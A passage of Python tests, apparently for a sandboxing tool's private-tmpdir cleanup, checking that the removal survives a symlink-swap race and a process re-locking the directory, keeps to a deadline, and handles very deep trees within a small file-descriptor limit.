            stage.rename(root)
            _remove(str(root))
            assert [oct(p.stat().st_mode & 0o777) for p in (victim, victim / "sub")] == \
                ["0o755", "0o755"], f"attempt {i}"
            if root.exists():  # the swapper made its link again after the removal
                root.rename(tmp_path / f"left-{i}")
            else:
                removed += 1
    finally:
        swapper.kill()
        swapper.wait()
    assert (victim / "sub" / "kept").read_text() == "x"
    assert removed > 30  # the control: the removals ran, and removed (fewer under load)
    (stage / "d" / "locked").mkdir(parents=True)  # and with nobody racing, all of it
    (stage / "d" / "locked").chmod(0)
    stage.rename(root)
    _remove(str(root))
    assert not root.exists()


LOCKER = r"""
import os, sys
while True:  # the directory being emptied, locked again and again
    try:
        os.chmod(sys.argv[1], 0)
    except OSError:
        pass
"""


def test_removing_a_private_tmpdir_relocked_meanwhile_never_raises(tmp_path):
    """(review, regression) A process still running there locks (mode 0) the directory
    the removal is emptying, over and over. Without root, the walk's way back up (a
    lookup of ".." in it) then failed with EACCES, which escaped the removal: in the
    CLI service, the serving child's relay thread died with it before the SIGKILL that
    ends a sandbox whose client went away. The removal is best effort and never raises;
    once the locker is gone, it removes all (the control). As root, no lookup fails: the
    unprivileged rerun is where this fails before the fix (7 times in 20 in review)."""
    from sandlock.private_tmp import _remove
    root = tmp_path / "sandlock-tmp-y"
    for i in range(5):
        (root / "d" / "e").mkdir(parents=True)
        for n in range(1000):
            (root / "d" / f"f{n}").touch()
        locker = subprocess.Popen([sys.executable, "-c", LOCKER, str(root / "d")])
        try:
            _remove(str(root))  # raises nothing, whatever it could remove
        finally:
            locker.kill()
            locker.wait()
        if root.exists():
            (root / "d").chmod(0o700)
        _remove(str(root))
        assert not root.exists(), f"attempt {i}"


def test_removing_a_private_tmpdir_keeps_to_its_deadline(tmp_path):
    """A process still writing there could nest directories as fast as they are removed:
    each removal has a deadline (tree_removal.DEADLINE; a second in the CLI service's
    relay, whose SIGKILL waits for it). Past it, the rest stays; the control: without
    one, all goes."""
    from sandlock.private_tmp import _remove
    root = tmp_path / "sandlock-tmp-z"
    for n in range(300):
        (root / f"d{n}").mkdir(parents=True)
        (root / f"d{n}" / "f").touch()
    _remove(str(root), within=0.0)
    assert len(list(root.iterdir())) == 300  # nothing walked past the deadline
    _remove(str(root))
    assert not root.exists()


def test_removing_a_private_tmpdir_holds_one_fd_at_any_depth(tmp_path):
    """A run may nest directories thousands deep in its TMPDIR. Removing them holds one
    directory fd at a time (an fd per level would take the service's fds from every
    sandbox it serves; the recursive removal also ended in a RecursionError here), and
    removes locked levels too: run with 40 fds at most."""
    code = r"""
import os, resource, sys
from sandlock.private_tmp import _remove
root = sys.argv[1]
os.mkdir(root)
fd = os.open(root, os.O_RDONLY)
for i in range(3000):  # by fd: the path grows past PATH_MAX
    os.mkdir("d", dir_fd=fd)
    nfd = os.open("d", os.O_RDONLY, dir_fd=fd)
    with open(os.open("f", os.O_WRONLY | os.O_CREAT, dir_fd=nfd), "w") as f:
        f.write("x")
    if i % 500 == 7:  # locked by the run (once left: without root, as the run would)
        os.fchmod(fd, 0)
    os.close(fd)
    fd = nfd
os.close(fd)
resource.setrlimit(resource.RLIMIT_NOFILE, (40, 40))
_remove(root)
print(os.path.exists(root))
"""
    r = subprocess.run([sys.executable, "-c", code, str(tmp_path / "root")],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0 and r.stdout == "False\n", r.stderr[-2000:]
    assert list(tmp_path.iterdir()) == []
